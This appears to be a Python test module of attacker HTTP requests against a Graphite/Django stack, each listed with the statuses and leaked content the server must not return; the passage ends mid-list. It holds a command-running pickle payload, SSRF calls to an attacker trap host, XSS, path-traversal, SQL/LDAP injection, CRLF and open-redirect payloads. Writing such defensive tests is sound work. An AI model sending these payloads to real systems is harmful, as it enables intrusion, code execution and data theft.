# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright: metricstack maintainers
"""Requests of an attacker, as they stand on the wire, and what may come back of each."""

from __future__ import annotations

import base64
import json
import os
import pickle
from dataclasses import dataclass
from functools import partial
from urllib.parse import quote, urlencode

NAME = "graphite.test.example"
EVIL = "evil.example"
# A port of the attacker, at which the stack would arrive if it could be made to ask.
TRAP = 9999
TRAP_URL = f"http://10.213.78.20:{TRAP}/"
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
GUEST_ADDRESS = "10.213.78.99"
# What the stack may say to a request that it does not answer; 0 is an end of the connection without a word.
REFUSED = frozenset({0, 400, 401, 403, 404, 405, 408, 411, 413, 414, 415, 417, 421, 431, 501})
LOGIN = frozenset({302, 401})
HARMLESS = REFUSED | {200, 204, 206, 301, 302, 304, 308, 416}


@dataclass(frozen=True)
class Case:
    """What is sent, and what must not come of it, beside what no answer may have."""

    name: str
    parts: tuple[bytes, ...]
    statuses: frozenset = REFUSED
    # Texts that the answer must not hold, whatever its status.
    without: tuple[bytes, ...] = ()
    # Of several answers to one connection, all but the first are of requests that have been smuggled.
    answers: int = 1
    port: int = 443
    tls: bool = True
    server_name: str = NAME
    pause: float = 0
    timeout: float = 10


def lines(*each, body=b""):
    """Return a request of lines as they are."""
    return b"\r\n".join(line if isinstance(line, bytes) else line.encode() for line in each) + b"\r\n\r\n" + body


def request(method, path, *headers, body=b"", by="", host=NAME):
    """Return a well-formed request; ``by`` is a user whose session it has."""
    head = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]
    if by:
        head.append(f"Cookie: sessionid=@{by}@")
    if body:
        head.append(f"Content-Length: {len(body)}")
    return lines(*head, body=body)


get = partial(request, "GET")
FORM = "Content-Type: application/x-www-form-urlencoded"


def post(path, *headers, **options):
    return request("POST", path, FORM, *headers, **options)


def form(**fields):
    return urlencode(fields).encode()


def basic(text):
    return "Authorization: Basic " + base64.b64encode(text if isinstance(text, bytes) else text.encode()).decode()


class Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-pickle; logger hostile-pickle",)


def multipart(parts):
    body = b"".join(b'--x\r\nContent-Disposition: form-data; name="a%d"\r\n\r\nb\r\n' % number for number in range(parts)) + b"--x--\r\n"
    return request("POST", "/account/login", "Content-Type: multipart/form-data; boundary=x", body=body)


EVENT = json.dumps({"what": "hostile", "tags": "hostile"}).encode()
STATE = form(state=json.dumps({"name": "hostile", "graphs": []}))


def case(name, raw, statuses=REFUSED, *without, **options):
    return Case(name, raw if isinstance(raw, tuple) else (raw,), frozenset(statuses), without, **options)


# Without a login: nothing of the data, and nothing is changed.
STRANGERS = [
    case(f"stranger-{name}", raw, REFUSED | LOGIN, b"carbon.agents", b'"datapoints"', b"alice")
    for name, raw in {
        "render": get("/render?target=carbon.agents.*.*&format=json"),
        "render-trailing-slash": get("/render/?target=carbon.agents.*.*&format=json"),
        "render-double-slash": get("//render?target=carbon.agents.*.*&format=json"),
        "render-by-post": post("/render", body=form(target="carbon.agents.*.*", format="json")),
        "render-head": request("HEAD", "/render?target=carbon.agents.*.*&format=json"),
        "render-options": request("OPTIONS", "/render?target=carbon.agents.*.*&format=json"),
        "render-method-override": post("/render?target=carbon.*&format=json", "X-HTTP-Method-Override: GET", body=b"a=b"),
        "metrics-find": get("/metrics/find?query=*"),
        "metrics-index": get("/metrics/index.json"),
        "metrics-search": get("/metrics/search?query=*"),
        "browser-search": post("/browser/search", body=form(query="carbon")),
        "events": get("/events/get_data"),
        "events-sql": get("/events/get_data?tags=" + quote("a' OR '1'='1") + "&set=union"),
        "events-post": request("POST", "/events/", "Content-Type: application/json", body=EVENT),
        "events-post-text": request("POST", "/events/", "Content-Type: text/plain", f"Origin: https://{EVIL}", body=EVENT),
        "dashboard-list": get("/dashboard/find?query="),
        "dashboard-temporary": post("/dashboard/create-temporary/", body=STATE),
        "dashboard-save": post("/dashboard/save/hostile", body=STATE),
        "dashboard-delete-by-get": get("/dashboard/delete/StatsD%20health"),
        "dashboard-template": post("/dashboard/save_template/hostile/key", body=STATE),
        "tags": get("/tags"),
        "tags-delete-by-get": get("/tags/delSeries?path=kept;a=b"),
        "tags-delete": post("/tags/delSeries", body=form(path="kept;a=b")),
        "tags-add": post("/tags/tagSeries", body=form(path="hostile;a=b")),
        "metadata": get("/metrics/set-metadata?metric=carbon.agents.a&key=aggregationMethod&value=max"),
        "whitelist": get("/whitelist"),
        "whitelist-add": post("/whitelist/add", body=form(metrics="hostile")),
        "admin": get("/admin/auth/user/"),
        "admin-add-user": post("/admin/auth/user/add/", body=form(username="hostile", password1="a", password2="a")),
        "shorten": get("/s/hostile"),
        "functions": get("/functions?grouped=1"),
        "user-graphs": get("/browser/usergraph/?path=&user=alice"),
        "forwarded-for": get("/render?target=carbon.*.*.*&format=json", f"X-Forwarded-For: {GUEST_ADDRESS}"),
        "forwarded-for-localhost": get("/render?target=carbon.*.*.*&format=json", "X-Forwarded-For: 127.0.0.1"),
        "forwarded": get("/render?target=carbon.*.*.*&format=json", f"Forwarded: for={GUEST_ADDRESS}"),
        "real-ip": get("/render?target=carbon.*.*.*&format=json", f"X-Real-IP: {GUEST_ADDRESS}", f"X-Client-IP: {GUEST_ADDRESS}"),
        "remote-addr": get("/render?target=carbon.*.*.*&format=json", f"Remote-Addr: {GUEST_ADDRESS}", f"REMOTE_ADDR: {GUEST_ADDRESS}"),
        "remote-user": get("/render?target=carbon.*.*.*&format=json", "Remote-User: admin", "X-Remote-User: admin", "REMOTE_USER: admin"),
        "remote-user-underscore": get("/admin/", "HTTP_REMOTE_USER: admin", "X_Forwarded_User: admin", "X-Forwarded-User: admin"),
        "process-group": get("/render?target=carbon.*.*.*&format=json", "mod_wsgi.process_group: graphite-store"),
        "script-name": get("/render?target=carbon.*.*.*&format=json", "Script-Name: /admin", "X-Script-Name: /account/login"),
        "token-empty": get("/metrics/index.json", "Authorization: Bearer "),
        "token-short": get("/metrics/index.json", "Authorization: Bearer o"),
        "token-long": get("/metrics/index.json", "Authorization: Bearer " + "o" * 7000),
        "token-prefix": get("/metrics/index.json", "Authorization: Bearer of-the-grafana-of-this-scenari"),
        "token-not-ascii": get("/metrics/index.json", "Authorization: Bearer 运行时运行时运行时运行时"),
        "token-binary": lines(
            "GET /metrics/index.json HTTP/1.1", f"Host: {NAME}", "Connection: close", b"Authorization: Bearer \xff\xfe\x80"
        ),
        "token-of-host-old": get("/metrics/index.json", f"Authorization: Bearer 1000000000.{'0' * 64}"),
        "token-of-host-wrong-key": get("/metrics/index.json", "Authorization: Bearer @host-token-of-another-key@"),
        "token-of-host-digits": get("/metrics/index.json", f"Authorization: Bearer {'9' * 4000}.{'0' * 64}"),
        "token-of-host-other-digits": get("/metrics/index.json", f"Authorization: Bearer ١٢٣.{'0' * 64}"),
        "token-for-a-change": request("POST", "/events/", "Authorization: Bearer of-the-grafana-of-this-scenario", body=EVENT),
        "basic-no-colon": get("/metrics/index.json", basic("admin")),
        "basic-empty": get("/metrics/index.json", basic(":")),
        "basic-no-base64": get("/metrics/index.json", "Authorization: Basic %%%"),
        "basic-binary": get("/metrics/index.json", basic(b"\xff\xfe:\x00")),
        "basic-null-byte": get("/metrics/index.json", basic("admin\x00:a")),
        "basic-empty-password": get("/metrics/index.json", basic("admin:")),
        "basic-overlong-password": get("/metrics/index.json", basic("admin:" + "a" * 5500)),
        "basic-disabled-user": get("/metrics/index.json", basic("disabled:the password of somebody who left")),
        "basic-ldap-injection": get("/metrics/index.json", basic("*)(uid=*))(|(uid=*:a")),
        "digest": get("/metrics/index.json", 'Authorization: Digest username="admin", realm="Graphite", response="0"'),
        "two-authorizations": get("/metrics/index.json", "Authorization: Basic YTpi", "Authorization: Bearer a"),
        "session-ended": get("/metrics/index.json", "Cookie: sessionid=@ended@"),
        "session-forged": get("/metrics/index.json", "Cookie: sessionid=../../../../etc/passwd"),
        "session-sql": get("/metrics/index.json", "Cookie: sessionid=' OR 1=1 --"),
        "session-long": get("/metrics/index.json", "Cookie: sessionid=" + "a" * 7000),
        "session-null-byte": get("/metrics/index.json", "Cookie: sessionid=a%00b"),
    }.items()
]

# A user without rights, or a page of another site in the browser of one.
CSRF = ("Sec-Fetch-Site: cross-site", f"Origin: https://{EVIL}", f"Referer: https://{EVIL}/")
USERS = [
    *(
        case(f"cross-site-{name}", raw)
        for name, raw in {
            "event": request("POST", "/events/", "Content-Type: text/plain", *CSRF, by="alice", body=EVENT),
            "event-origin-null": request("POST", "/events/", "Origin: null", by="alice", body=EVENT),
            "event-same-site": request("POST", "/events/", "Sec-Fetch-Site: same-site", by="alice", body=EVENT),
            "event-other-port": request("POST", "/events/", f"Origin: https://{NAME}:8443", by="alice", body=EVENT),
            "event-suffix": request("POST", "/events/", f"Origin: https://{NAME}.{EVIL}", by="alice", body=EVENT),
            "event-credentials": request("POST", "/events/", f"Origin: https://{NAME}@{EVIL}", by="alice", body=EVENT),
            "dashboard-save": post("/dashboard/save/hostile", *CSRF, by="admin", body=STATE),
            "dashboard-delete-by-get": get("/dashboard/delete/StatsD%20health", *CSRF, by="admin"),
            "graph-save-by-get": get("/composer/mygraph?action=save&graphName=hostile&url=%2Frender", *CSRF, by="alice"),
            "graph-save-by-post": post("/composer/mygraph?action=save&graphName=hostile&url=%2F", *CSRF, by="alice", body=b"a=b"),
            "shorten": get("/s/hostile", *CSRF, by="alice"),
            "profile": post("/account/update", *CSRF, by="alice", body=form(advancedUI="on")),
            "tags-delete": post("/tags/delSeries", *CSRF, by="alice", body=form(path="kept;a=b")),
            "metadata-by-get": get("/metrics/set-metadata?metric=a&key=aggregationMethod&value=max", *CSRF, by="admin"),
            "logout": get("/account/logout", *CSRF, by="alice"),
            "login": post("/account/login", *CSRF, body=form(username="alice", password="the password of alice")),
            "login-of-the-dashboard": post("/dashboard/login", *CSRF, body=form(username="alice", password="the password of alice")),
            "admin-password": post("/admin/auth/user/1/password/", *CSRF, by="admin", body=form(password1="a", password2="a")),
            "admin-delete": post("/admin/auth/user/2/delete/", *CSRF, by="admin", body=form(post="yes")),
            "admin-delete-without-headers": post("/admin/auth/user/2/delete/", by="admin", body=form(post="yes")),
        }.items()
    ),
    *(
        case(f"user-{name}", raw, REFUSED | {302}, b"Site administration", b'"success": true')
        for name, raw in {
            "admin": get("/admin/", by="alice"),
            "admin-session-table": get("/admin/sessions/session/", by="alice"),
            "whitelist": get("/whitelist", by="alice"),
            "whitelist-add": post("/whitelist/add", by="alice", body=form(metrics="hostile")),
            "metadata": get("/metrics/set-metadata?metric=carbon.agents.a&key=aggregationMethod&value=max", by="alice"),
            "metadata-by-post": post("/metrics/set-metadata", by="alice", body=form(operations='[{"metric":"a","key":"a","value":"a"}]')),
        }.items()
    ),
    case("login-wrong", post("/account/login", body=form(username="alice", password="a")), {200}, b"sessionid"),
    case(
        "login-disabled",
        post("/account/login", body=form(username="disabled", password="the password of somebody who left")),
        {200},
        b"sessionid",
    ),
    case("login-overlong", post("/account/login", body=form(username="alice", password="a" * 900_000)), {200, 400, 413}, b"sessionid"),
    case("login-null-byte", post("/account/login", body=form(username="alice\x00", password="a")), {200, 400}, b"sessionid"),
    case("login-markup", post("/account/login", body=form(username="a", password="a", nextPage=f'"{IMAGE}')), {200, 400}, IMAGE.encode()),
    case("login-array", post("/account/login", body=b"username[$ne]=a&password[$ne]=a"), {200}, b"sessionid"),
    case(
        "login-fixed-session",
        post(
            "/account/login",
            "Cookie: sessionid=fixedfixedfixedfixedfixedfixed12",
            body=form(username="alice", password="the password of alice"),
        ),
        {302},
        b"fixedfixed",
    ),
    case("login-by-dashboard-without-fields", post("/dashboard/login", body=b"a=b")),
    case("password-reset-host", get("/admin/password_reset/", f"X-Forwarded-Host: {EVIL}"), REFUSED | {302}, EVIL.encode()),
]

# Holes of graphite-web, tried by somebody who may read.
GRAPHITE = [
    case(name, raw, statuses, *without)
    for name, raw, statuses, *without in [
        ("ssrf-send-email", get(f"/composer/send_email?to=a@{EVIL}&url={quote(TRAP_URL)}", by="alice"), REFUSED),
        ("ssrf-graphlot", get(f"/graphlot/rawdata?target={quote(TRAP_URL)}", by="alice"), REFUSED),
        ("ssrf-target", get(f"/render?target={quote(TRAP_URL)}&format=json", by="alice"), {200, 400}),
        ("ssrf-saved-graph", get("/render/~alice/trap", by="alice"), REFUSED | {200, 302}, f"Location: {TRAP_URL}".encode()),
        ("ssrf-cluster-headers", get("/render?target=a&format=json&local=0&cluster=10.213.78.20:9999", by="alice"), {200}),
        (
            "redirect-login",
            post("/account/login", body=form(username="alice", password="the password of alice", nextPage=f"https://{EVIL}/")),
            REFUSED | {302},
            f"Location: https://{EVIL}".encode(),
        ),
        ("redirect-logout", get(f"/account/logout?nextPage=https://{EVIL}/"), REFUSED | {302}, b"Location: https://evil"),
        ("redirect-logout-slashes", get(f"/account/logout?nextPage=//{EVIL}/"), REFUSED | {302}, b"Location: //evil"),
        ("redirect-logout-backslash", get(f"/account/logout?nextPage=/%5C{EVIL}/"), REFUSED | {302}, b"Location: /\\evil"),
        ("redirect-logout-javascript", get("/account/logout?nextPage=javascript:alert(1)"), REFUSED | {302}, b"Location: javascript"),
        ("redirect-logout-tab", get(f"/account/logout?nextPage=/%09/{EVIL}"), REFUSED | {302}, b"Location: /\t/evil"),
        ("redirect-logout-newline", get("/account/logout?nextPage=/%0d%0aSet-Cookie:%20a=b"), REFUSED | {302}, b"\nSet-Cookie: a=b"),
        ("redirect-short-address", get(f"/S/{EVIL}", by="alice"), REFUSED, b"Location: //evil"),
        ("redirect-slashes", get(f"//{EVIL}/..", by="alice"), REFUSED | {200}, b"Location: //evil"),
        (
            "redirect-update",
            post("/account/update", by="alice", body=form(nextPage=f"https://{EVIL}/")),
            REFUSED | {302},
            b"Location: https://evil",
        ),
        ("xss-composer", get(f"/composer?target={quote(SCRIPT)}", by="alice"), {200, 400}, SCRIPT.encode()),
        ("xss-composer-show", get(f"/composer?showTarget={quote(chr(34) + SCRIPT)}", by="alice"), {200, 400}, SCRIPT.encode()),
        ("xss-browser", get(f"/?target={quote(SCRIPT)}&{quote(SCRIPT)}=a", by="alice"), {200, 400}, SCRIPT.encode()),
        ("xss-dashboard-name", get(f"/dashboard/{quote(IMAGE)}", by="alice"), {400}, IMAGE.encode()),
        ("xss-dashboard-query", get(f"/dashboard?a={quote('</script>' + SCRIPT)}", by="alice"), {200, 400}, SCRIPT.encode()),
        ("xss-dashboard-theme", get(f"/dashboard?theme={quote(IMAGE)}", by="alice"), {400}, IMAGE.encode()),
        ("xss-dashboard-template", get(f"/dashboard/a/{quote(IMAGE)}", by="alice"), {400}, IMAGE.encode()),
        ("xss-dashboard-debug", get(f"/dashboard?debug={quote(SCRIPT)}", by="alice"), {200, 400}, SCRIPT.encode()),
        (
            "xss-dashboard-cookie",
            get("/dashboard", "Cookie: sessionid=@alice@; ys-defaultGraphParams=" + quote(f's:{{"from":"-2{IMAGE}"}}')),
            {400},
            IMAGE.encode(),
        ),
        (
            "xss-temporary",
            post("/dashboard/create-temporary/", by="alice", body=form(state=json.dumps({"timeConfig": {"relativeStartUnits": IMAGE}}))),
            {400},
        ),
        ("xss-graph", get(f"/composer/mygraph?action=save&url=a&graphName={quote(IMAGE)}", by="alice"), {400}),
        ("xss-graph-action", get(f"/composer/mygraph?graphName=a&action={quote(IMAGE)}", by="alice"), {200, 400}, b"text/html"),
        ("xss-user-graph", get(f"/render/~{quote(IMAGE)}/a", by="alice"), {400}, IMAGE.encode()),
        ("xss-find-from", get(f"/metrics/find?query=a&from={quote(SCRIPT)}", by="alice"), {400}, SCRIPT.encode()),
        ("xss-find-jsonp", get("/metrics/find?query=*&jsonp=alert(1)//", by="alice"), {400}, b"alert"),
        ("xss-find-format", get(f"/metrics/find?query=*&format={quote(SCRIPT)}", by="alice"), {400}, SCRIPT.encode()),
        ("xss-render-error", get(f"/render?target={quote(SCRIPT)}(", by="alice"), {200, 400}, SCRIPT.encode()),
        (
            "xss-render-function",
            get(f"/render?target=alias(carbon.agents.*.cpuUsage,{quote(chr(34) + SCRIPT + chr(34))})&format=json&until=a", by="alice"),
            {400},
            SCRIPT.encode(),
        ),
        ("xss-render-jsonp", post("/render", by="alice", body=form(target="a", format="json", jsonp="alert(1)//")), {400}, b"alert"),
        (
            "xss-dygraph",
            get(f"/render?target=alias(carbon.agents.*.cpuUsage,{quote(chr(34) + SCRIPT + chr(34))})&format=dygraph", by="alice"),
            {200},
            b"text/html",
        ),
        (
            "xss-raw",
            get(f"/render?target=alias(carbon.agents.*.cpuUsage,{quote(chr(34) + SCRIPT + chr(34))})&rawData=1", by="alice"),
            {200},
            b"text/html",
        ),
        ("xss-svg", get(f"/render?target=a&format=svg&title={quote(SCRIPT)}", by="alice"), {200}, SCRIPT.encode()),
        (
            "xss-svg-series",
            get(
                f"/render?target=alias(carbon.agents.*.cpuUsage,{quote(chr(34) + ']]></script>' + SCRIPT + chr(34))})&format=svg",
                by="alice",
            ),
            {200},
            SCRIPT.encode(),
        ),
        (
            "xss-svg-color",
            get(f"/render?target=randomWalk('a')&format=svg&colorList={quote(SCRIPT)}", by="alice"),
            {200, 400},
            SCRIPT.encode(),
        ),
        (
            "pdf-injection",
            get("/render?target=a&format=pdf&title=" + quote(") /JS (alert(1)"), by="alice"),
            {200},
            b"/JavaScript",
            b"/JS (alert",
        ),
        ("xss-events", get(f"/events/?tags={quote(SCRIPT)}", by="alice"), {200, 400}, SCRIPT.encode()),
        ("xss-events-host", get("/events/", by="alice", host=f"{NAME}:{quote(SCRIPT)}"), {400}, SCRIPT.encode()),
        ("xss-functions", get(f"/functions/{quote(IMAGE)}", by="alice"), REFUSED, b"text/html"),
        ("xss-tags", get(f"/tags/{quote(IMAGE)}", by="alice"), REFUSED, b"text/html"),
        ("xss-path-not-found", get(f"/nothing/{quote(SCRIPT)}", by="alice"), REFUSED, SCRIPT.encode()),
        ("pickle-render-local", request("POST", "/render/local", by="alice", body=b"line\n" + pickle.dumps(Payload())), REFUSED),
        (
            "pickle-render-local-picture",
            request("POST", "/render/local", by="alice", body=b"line\n" + pickle.dumps({"width": 60000, "height": 9000, "data": []}, 2)),
            REFUSED,
            b"PNG",
        ),
        ("pickle-render-local-stranger", request("POST", "/render/local/", body=b"line\n" + pickle.dumps(Payload())), REFUSED),
        ("pickle-whitelist", post("/whitelist/add", by="alice", body=form(metrics=pickle.dumps(Payload(), 0).decode())), REFUSED),
        ("pickle-cookie", get("/", "Cookie: sessionid=" + base64.b64encode(pickle.dumps(Payload())).decode()), LOGIN),
        ("find-root", get("/metrics/find?query=/etc.*", by="alice"), {200}, b"passwd", b"hostname"),
        ("find-root-encoded", get("/metrics/find?query=%2Fetc%2F*", by="alice"), {200}, b"passwd", b"hostname"),
        ("find-parent", get("/metrics/find?query=..%2F..%2F*", by="alice"), {200}, b"graphite.db", b"search_index"),
        ("find-brackets", get("/metrics/find?query={/etc,/var}.*", by="alice"), {200}, b"passwd", b"spool"),
        ("find-null-byte", get("/metrics/find?query=%00", by="alice"), {200, 400}),
        ("find-surrogate", get("/metrics/find?query=%ED%A0%80%FF", by="alice"), {200, 400}),
        ("find-no-query", get("/metrics/find", by="alice"), {400}),
        ("find-no-number", get("/metrics/find?query=a&position=a&format=nodelist&wildcards=b", by="alice"), {400}),
        ("find-position", get("/metrics/find?query=*&position=99&format=nodelist", by="alice"), {200, 400}),
        ("find-time-zone", get("/metrics/find?query=*&tz=../../etc/passwd", by="alice"), {200, 400}),
        ("expand-no-number", get("/metrics/expand?query=*&leavesOnly=a", by="alice"), {400}),
        ("index-no-number", get("/metrics/index.json?local=a", by="alice"), {200, 400}),
        ("metadata-read", get("/metrics/get-metadata?metric=../../etc/passwd&key=__class__", by="alice"), {200, 400}),
        ("render-root", get("/render?format=json&target=/etc.*", by="alice"), {200}, b"passwd"),
        ("render-python", get("/render?format=json&target=__import__(%27os%27)", by="alice"), {200, 400}),
        ("render-no-arguments", get("/render?format=json&target=movingAverage()", by="alice"), {400}),
        (
            "render-wrong-arguments",
            get("/render?format=json&target=movingAverage(carbon.agents.*.cpuUsage,%27a%27)", by="alice"),
            {200, 400},
        ),
        ("render-nested", get("/render?format=json&target=" + "abs(" * 1200 + "a" + ")" * 1200, by="alice"), {200, 400, 414}),
        ("render-graph-type", get("/render?target=a&graphType=__class__", by="alice"), {400}),
        ("render-pie-mode", get("/render?target=a:b&graphType=pie&pieMode=nothing", by="alice"), {200, 400}),
        ("render-font", get("/render?target=a&fontName=/etc/passwd&fontSize=1e308", by="alice"), {200, 400}),
        ("render-size", get("/render?target=a&width=60000&height=60000", by="alice"), {400}),
        ("render-negative", get("/render?target=a&width=-1&height=-99999999999999999999", by="alice"), {200, 400}),
        ("render-times", get("/render?target=a&format=json&from=99999999999999999999&until=-99999999999999999y", by="alice"), {200, 400}),
        ("render-limits", get("/render?target=randomWalk('a')&yMin=nan&yMax=inf&logBase=0&yStep=0", by="alice"), {200, 400}),
        (
            "render-template",
            get("/render?target=template(a.$x,x=%27/etc/*%27)&template[x]=/etc/*&format=json", by="alice"),
            {200, 400},
            b"passwd",
        ),
        ("render-tags-sql", get("/render?format=json&target=" + quote("seriesByTag(\"name=a' OR '1'='1\")"), by="alice"), {200, 400}),
        (
            "render-tags-regular-expression",
            get("/render?format=json&target=" + quote("seriesByTag('name=~(((((')"), by="alice"),
            {200, 400},
        ),
        ("tags-no-number", get("/tags?limit=a", by="alice"), {200, 400}),
        ("tags-large-number", get("/tags?limit=99999999999999999999999", by="alice"), {200, 400}),
        ("tags-regular-expression", get("/tags?filter=(((", by="alice"), {200, 400}),
        ("tags-find-no-expression", get("/tags/findSeries?expr=a", by="alice"), {400}),
        ("tags-delete-by-get", get("/tags/delSeries?path=kept;a=b", by="alice"), {405}),
        ("tags-complete", get("/tags/autoComplete/values?tag=a'&valuePrefix=%27%22&limit=-1", by="alice"), {200, 400}),
        ("events-no-json", request("POST", "/events/", by="alice", body=b"<xml>"), {400}),
        ("events-list", request("POST", "/events/", by="alice", body=b"[1, 2]"), {400}),
        ("events-time", request("POST", "/events/", by="alice", body=b'{"what": "hostile", "when": 1e300}'), {400}),
        ("events-nested", request("POST", "/events/", by="alice", body=b"[" * 500_000), {400}),
        ("events-binary", request("POST", "/events/", by="alice", body=b"\xff\x00\xfe"), {400}),
        ("events-no-what", request("POST", "/events/", by="alice", body=b'{"what": null}'), {400}),
        ("events-time-range", get("/events/get_data?from=nothing&until=%00", by="alice"), {400}),
        ("events-put", request("PUT", "/events/", by="alice", body=EVENT), {400, 405}),
        ("events-number", get("/events/99999999999999999999999999", by="alice"), {400, 404}),
        ("search-regular-expression", post("/browser/search", by="alice", body=form(query="(((")), {200, 400}),
        ("graph-no-action", get("/composer/mygraph", by="alice"), {400}),
        ("graphs-of-nobody", get("/browser/usergraph/", by="alice"), {200, 400}),
        ("graphs-of-a-guest", get("/browser/mygraph/?path=", "Authorization: Bearer of-the-grafana-of-this-scenario"), {200, 400}),
        ("dashboard-find-nothing", get("/dashboard/find", by="alice"), {200, 400}),
        ("dashboard-save-no-state", post("/dashboard/save/hostile", by="admin", body=b"a=b"), {400}),
        ("dashboard-save-no-json", post("/dashboard/save/hostile", by="admin", body=b"state={"), {400}),
        ("dashboard-template-of-nothing", get("/dashboard/load_template/nothing/a", by="alice"), {200, 400}),
        (
            "dashboard-email-header",
            post(
                "/dashboard/email", by="alice", body=form(sender="a", recipients="a", subject="a\r\nBcc: b", message="a", graph_params="[]")
            ),
            {400},
        ),
        ("version", get("/version/", by="alice"), {200}, b"Python", b"Django"),
        ("debug-page", get("/nothing-here"), REFUSED | LOGIN, b"urlpatterns", b"Using the URLconf", b"django.urls"),
        ("link-too-long", get("/S/" + "z" * 500, by="alice"), REFUSED),
        ("format-is-file", get("/render?target=a&format=../../../etc/passwd", by="alice"), {200, 400}),
    ]
]

# Of Django and of paths.
PATHS = [
    case(f"path-{name}", get(path), REFUSED | LOGIN | {200}, b"SECRET_KEY", b"root:x:0", b"DATABASES", b"[core]", b"Index of")
    for name, path in {
        "static-list": "/static/",
        "static-list-of-pictures": "/static/js/?C=M;O=D",
        "static-parent": "/static/../local_settings.py",
        "static-encoded": "/static/%2e%2e/local_settings.py",
        "static-encoded-twice": "/static/%252e%252e/local_settings.py",
        "static-encoded-slash": "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "static-backslash": "/static/..\\..\\etc\\passwd",
        "static-cgi": "/static/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "static-cgi-twice": "/static/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        "static-without-slash": "/static../conf/local_settings.py",
        "static-semicolon": "/static/..;/..;/etc/passwd",
        "static-overlong": "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "static-null-byte": "/static/js/dashboard.js%00.py",
        "static-htaccess": "/static/.htaccess",
        "static-git": "/static/.git/config",
        "git": "/.git/config",
        "htaccess": "/.htaccess",
        "htpasswd": "/.htpasswd",
        "env": "/.env",
        "settings": "/local_settings.py",
        "wsgi": "/graphite.wsgi",
        "database": "/graphite.db",
        "icons": "/icons/../../../etc/passwd",
        "cgi": "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh",
        "challenge": "/.well-known/acme-challenge/../../../../etc/passwd",
        "challenge-encoded": "/.well-known/acme-challenge/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "null-byte": "/%00",
        "overlong": "/%c0%af%c0%ae%c0%ae%c0%afetc/passwd",
        "not-utf-8": "/%ff%fe%80",
        "bad-escape": "/%zz",
        "parent": "/../../../../etc/passwd",
        "semicolon": "/account/login/..;/admin/",
        "encoded-slash": "/account%2flogin/../../admin",
        "user-directory": "/~root/",
        "server-status": "/server-status",
        "server-info": "/server-info",
        "balancer": "/balancer-manager",
        "proxy": f"/http://10.213.78.20:{TRAP}/",
    }.items()
]
DJANGO = [
    case(
        "original-url",
        get("/account/login", "X-Original-URL: /metrics/index.json", "X-Rewrite-URL: /metrics/index.json"),
        {200},
        b"carbon.",
    ),
    case("host-of-another-site", get("/account/login", host=EVIL), {400, 421, 404, 302, 308}, EVIL.encode()),
    case("host-with-a-port", get("/account/login", host=f"{NAME}:99999999"), {200, 400}, b"99999999"),
    case("host-with-credentials", get("/account/login", host=f"{NAME}@{EVIL}"), {400}, EVIL.encode()),
    case("host-with-space", get("/account/login", host=f"{NAME} {EVIL}"), {400}, EVIL.encode()),
    case("host-missing", lines("GET /account/login HTTP/1.1", "Connection: close"), {400}),
    case("host-empty", get("/account/login", host=""), {400}),
    case("host-twice", lines("GET /account/login HTTP/1.1", f"Host: {NAME}", f"Host: {EVIL}", "Connection: close"), {400}, EVIL.encode()),
    case(
        "host-forwarded",
        get("/events/", f"X-Forwarded-Host: {EVIL}", f"X-Host: {EVIL}", f"Forwarded: host={EVIL}", by="alice"),
        {200},
        EVIL.encode(),
    ),
    case("scheme-forwarded", get("/events/", "X-Forwarded-Proto: http", "X-Forwarded-Ssl: off", by="alice"), {200}, b"http://graphite"),
    case("multipart-parts", multipart(12_000), {200, 400, 413}),
    case("multipart-fields", post("/account/login", body=b"&".join(b"a%d=b" % number for number in range(20_000))), {400, 413}),
    case("multipart-no-boundary", request("POST", "/account/login", "Content-Type: multipart/form-data", body=b"a"), {200, 400}),
    case("multipart-open", request("POST", "/account/login", "Content-Type: multipart/form-data; boundary=x", body=b"--x\r\n"), {200, 400}),
    case(
        "multipart-boundary",
        request("POST", "/account/login", "Content-Type: multipart/form-data; boundary=" + "x" * 5000, body=b"--x\r\n"),
        {200, 400},
    ),
    case(
        "multipart-base64",
        request(
            "POST",
            "/account/login",
            "Content-Type: multipart/form-data; boundary=x",
            body=b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%\r\n--x--',
        ),
        {200, 400},
    ),
    case(
        "multipart-file-name",
        request(
            "POST",
            "/account/login",
            "Content-Type: multipart/form-data; boundary=x",
            body=b'--x\r\nContent-Disposition: form-data; name="a"; filename="../../../../tmp/hostile"\r\n\r\na\r\n--x--\r\n',
        ),
        {200, 400},
    ),
    case("character-set", request("POST", "/account/login", FORM + "; charset=utf-7", body=b"username=+ADw-"), {200, 400}),
    case("character-set-unknown", request("POST", "/account/login", FORM + "; charset=nothing", body=b"username=a"), {200, 400}),
    case("character-set-codec", request("POST", "/account/login", FORM + "; charset=zlib", body=b"username=a&password=b"), {200, 400}),
    case("language", get("/admin/login/", "Accept-Language: " + "a-" * 3000), {200, 400}),
    case("language-many", get("/admin/login/", "Accept-Language: " + ",".join(["aa"] * 2000)), {200, 400}),
    case("cookies-many", get("/account/login", "Cookie: " + ";".join(f"a{number}=b" for number in range(900))), {200, 400}),
    case("cookie-octal", get("/account/login", 'Cookie: a="' + "\\" * 7000 + '"'), {200, 400}),
    case("encoding-of-answer", get("/account/login", "Accept-Encoding: gzip;q=nothing, " + "x, " * 2000), {200, 400}),
    case("query-fields", get("/account/login?" + "&".join(f"a{number}" for number in range(1500))), {200, 400, 414}),
    case("form-bomb-of-keys", post("/account/login", body=b"a&" * 400_000), {400, 413}),
    case("admin-next", get(f"/admin/login/?next=https://{EVIL}/"), {200}, b"Location: https://evil"),
    case("admin-debug-sql", get("/admin/auth/user/?password__startswith=pbkdf2", by="alice"), REFUSED | {302}),
    case("admin-filter-password", get("/admin/auth/user/?password__startswith=pbkdf2", by="admin"), {302, 400}, b"results"),
    case("admin-filter-field", get("/admin/auth/user/?nothing__x=1", by="admin"), {302, 400}),
    case("admin-page", get("/admin/auth/user/?p=99999999999999999999&o=a", by="admin"), {200, 302, 400, 404}),
